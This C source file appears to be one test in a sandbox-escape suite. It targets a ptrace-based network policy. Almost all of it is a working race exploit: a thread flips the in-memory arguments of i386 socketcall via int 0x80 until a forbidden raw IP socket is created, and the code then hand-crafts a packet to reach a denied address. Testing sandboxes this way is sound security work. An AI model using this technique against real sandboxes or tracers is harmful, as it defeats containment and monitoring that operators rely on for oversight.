/*
 * Vectors 3, 8, 12: i386 socketcall(SYS_SOCKET, args) via int 0x80 keeps
 * the real arguments in memory, which the tracer reads at the decision and
 * cannot pin (a 32-bit pointer). A thread flips {SOCK_DGRAM, 0} and
 * {SOCK_RAW, IPPROTO_RAW} there while the main thread makes sockets: a raw
 * IP socket (refused under a policy, esc_net_raw_hdrincl) sends a UDP
 * datagram whose own header names the denied address. The same holds for
 * socketcall's setsockopt (IP_HDRINCL, the iptables replacements).
 * success = the echo comes back from the denied address.
 * expect: ptrace_network|ptrace_process
 */
#include "esc.h"
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <pthread.h>
#include <stdatomic.h>
#include <sys/mman.h>

static atomic_bool stop;
static volatile uint64_t *type_proto; /* args[1] and args[2] in one store */

static long int80(long nr, long a, long b, long c)
{
	long ret;
	__asm__ volatile("int $0x80"
			 : "=a"(ret)
			 : "a"(nr), "b"(a), "c"(b), "d"(c)
			 : "memory", "r8", "r9", "r10", "r11");
	return ret;
}

static void *flipper(void *arg)
{
	const uint64_t benign = SOCK_DGRAM, raw = SOCK_RAW | (uint64_t)IPPROTO_RAW << 32;

	(void)arg;
	while (!atomic_load(&stop)) {
		*type_proto = benign;
		for (volatile int i = 0; i < 50; i++)
			;
		*type_proto = raw;
		for (volatile int i = 0; i < 50; i++)
			;
	}
	return NULL;
}

static bool is_raw(int fd)
{
	int type = 0, proto = 0;
	socklen_t l = sizeof(type);

	getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &l);
	l = sizeof(proto);
	getsockopt(fd, SOL_SOCKET, SO_PROTOCOL, &proto, &l);
	return type == SOCK_RAW && proto == IPPROTO_RAW;
}

static int raw_socket(void)
{
	uint32_t *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
			     MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	uint32_t *args;
	pthread_t t;
	long tries = 0;
	int r = -1;

	if (low == MAP_FAILED)
		esc_broken("mmap MAP_32BIT: %s", strerror(errno));
	args = low + 1; /* args[1] and args[2] 8-aligned */
	type_proto = (volatile uint64_t *)(args + 1);
	args[0] = AF_INET;
	*type_proto = SOCK_DGRAM;
	pthread_create(&t, NULL, flipper, NULL);
	for (double end = esc_now() + esc_race_seconds(); esc_now() < end && r < 0;) {
		long fd = int80(102 /* i386 socketcall */, 1 /* SYS_SOCKET */, (long)(uintptr_t)args, 0);

		tries++;
		if (fd < 0)
			continue;
		if (is_raw((int)fd))
			r = (int)fd;
		else
			close((int)fd);
	}
	atomic_store(&stop, true);
	pthread_join(t, NULL);
	if (r < 0)
		esc_blocked("no raw socket in %ld socketcalls", tries);
	printf("an IPPROTO_RAW socket after %ld socketcalls\n", tries);
	return r;
}

int main(void)
{
#if !defined(__x86_64__)
	esc_skip("int 0x80 is an x86_64 vector");
#else
	pid_t probe = fork();
	if (probe == 0)
		_exit(int80(20 /* i386 getpid */, 0, 0, 0) > 0 ? 0 : 3);
	int st = esc_wait(probe);
	if (st != 0 && esc_tracer_pid())
		esc_blocked("int 0x80 failed under the tracer (probe exit %d)", st);
	if (st != 0)
		esc_skip("int 0x80 unavailable (probe exit %d: no IA32 emulation)", st);

	struct sockaddr_in deny = esc_deny_sin();
	struct sockaddr_in me = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	struct sockaddr_in via = me;
	socklen_t len = sizeof(me);
	unsigned char pkt[sizeof(struct iphdr) + sizeof(struct udphdr) + 4];
	struct iphdr *ip = (struct iphdr *)pkt;
	struct udphdr *udp = (struct udphdr *)(ip + 1);
	int u = socket(AF_INET, SOCK_DGRAM, 0);

	if (u < 0 || bind(u, (struct sockaddr *)&me, sizeof(me)) < 0 ||
	    getsockname(u, (struct sockaddr *)&me, &len) < 0)
		esc_broken("udp socket: %s", strerror(errno));
	int r = raw_socket();
	memset(pkt, 0, sizeof(pkt));
	ip->version = 4;
	ip->ihl = 5;
	ip->ttl = 64;
	ip->protocol = IPPROTO_UDP;
	ip->tot_len = htons(sizeof(pkt));
	ip->saddr = me.sin_addr.s_addr;
	ip->daddr = deny.sin_addr.s_addr;
	udp->source = me.sin_port;
	udp->dest = deny.sin_port;
	udp->len = htons(sizeof(struct udphdr) + 4);
	memcpy(udp + 1, "ping", 4);
	if (sendto(r, pkt, sizeof(pkt), 0, (struct sockaddr *)&via, sizeof(via)) < 0)
		esc_blocked("raw sendto: %s", strerror(errno));
	if (esc_recv_contains(u, ESC_BANNER, 2000))
		esc_success("a raw IP datagram reached the denied address (echo received)");
	esc_blocked("no echo from the denied address");
#endif
}
